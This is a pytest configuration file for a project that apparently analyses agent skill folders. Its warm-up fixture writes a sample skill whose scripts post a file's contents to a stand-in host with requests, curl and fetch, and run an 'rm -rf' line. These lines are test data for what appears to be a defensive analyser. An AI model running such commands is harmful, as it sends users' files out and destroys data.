"""What every test shares: no deadlines (machines are noisy), one width of the terminal, a state folder of its own, and what runs only at night."""

import atexit
import gc
import os
import shutil
import signal
import ssl
import subprocess
import sys
import tempfile
from functools import cache
from pathlib import Path

import pytest
from hypothesis import HealthCheck, settings

import chromium_browser
from by_day import NIGHTLY, many, skips_by_reason
from made_once import Compiling
from remit.capsule.helper import build as helper_build
from remit.checker.extras import DRAFT
from remit.checker.run import Options
from remit.checker.table_file import open_tables, save_tables
from remit.checker.task import analyse_folder
from remit.guard.client import build as client_build

settings.register_profile("remit", deadline=None, max_examples=many(100), suppress_health_check=[HealthCheck.too_slow])
settings.load_profile("remit")
# a tenth of the time of a test is a search for garbage, of which there is little
COLLECT = (200_000, 20, 50)
os.environ["COLUMNS"] = "80"
# whatever a test starts without a folder of its own finds this one, and not that of whoever runs the tests
os.environ.pop("REMIT_STATE", None)
os.environ["XDG_STATE_HOME"] = tempfile.mkdtemp(prefix="remit-tests-")
atexit.register(shutil.rmtree, os.environ["XDG_STATE_HOME"], ignore_errors=True)

# a run in the background inherits signals that are ignored, and programs that tests start would inherit them, too
for _number, _usual in ((signal.SIGINT, signal.default_int_handler), (signal.SIGHUP, signal.SIG_DFL), (signal.SIGQUIT, signal.SIG_DFL), (signal.SIGTERM, signal.SIG_DFL)):  # fmt: skip
    if signal.getsignal(_number) is signal.SIG_IGN:
        signal.signal(_number, _usual)


def _authorities_once(made):
    """httpx reads the authorities of the whole web for every client, which takes longer than most tests that have one."""
    kept = cache(made)

    def create_default_context(*args, **how):
        of_the_web = not args and list(how) == ["cafile"] and str(how["cafile"]).endswith("certifi/cacert.pem")
        return (kept if of_the_web else made)(*args, **how)

    return create_default_context


ssl.create_default_context = _authorities_once(ssl.create_default_context)


sys.modules["rfc3987_syntax"] = None  # grammars of addresses, for which no schema asks: seconds for each worker
helper_build.subprocess = client_build.subprocess = Compiling(subprocess, os.environ["XDG_STATE_HOME"])


# helpers that the tests of other folders use too
sys.path += [str(Path(__file__).parent / name) for name in ("cli", "editor", "executor", "hosts", "reality")]


WARM = {
    "SKILL.md": "---\nname: warm\ndescription: Sends a file.\n---\n# Warm\nRun `python3 scripts/a.py`. Send the result to a@example.org.\n",
    "scripts/a.py": 'import sys\nimport requests\nrequests.post("https://a.example/", data=open(sys.argv[1]).read())\n',
    "scripts/a.sh": 'curl -d @"$1" https://a.example/\nrm -rf ./x\n',
    "scripts/a.js": 'fetch("https://a.example/", {method: "POST", body: require("fs").readFileSync(process.argv[2])})\n',
}


@pytest.fixture(scope="session", autouse=True)
def warm(tmp_path_factory):
    """What every analysis needs is read once, before workers are forked from this process: each would read it for itself."""
    folder = tmp_path_factory.mktemp("warm")
    for name, text in WARM.items():
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(text)
    open_tables()
    analyse_folder(str(folder), Options(), DRAFT)
    save_tables()


@pytest.fixture(scope="module")
def chromium():
    """One browser for the tests of a module: while it runs, this thread has an event loop, which others must not find."""
    with chromium_browser.started() as browser:
        yield browser


def pytest_collection(session):
    """Nothing of what is collected becomes garbage, of which there would be a search every few hundred tests."""
    gc.disable()


def pytest_collection_finish(session):
    gc.freeze()
    gc.set_threshold(*COLLECT)
    gc.enable()


def pytest_collection_modifyitems(items):
    """What has `_nightly` in its name runs where REMIT_NIGHTLY is set: facts that hang on pinned versions, and more of the same."""
    if os.environ.get(NIGHTLY):
        return
    for item in items:
        if "_nightly" in item.nodeid:
            item.add_marker(pytest.mark.skip(reason=f"only at night: set {NIGHTLY}=1"))


def pytest_terminal_summary(terminalreporter):
    """How many tests were skipped for which reason."""
    for line in skips_by_reason(terminalreporter.stats.get("skipped", ())):
        terminalreporter.write_line(line)
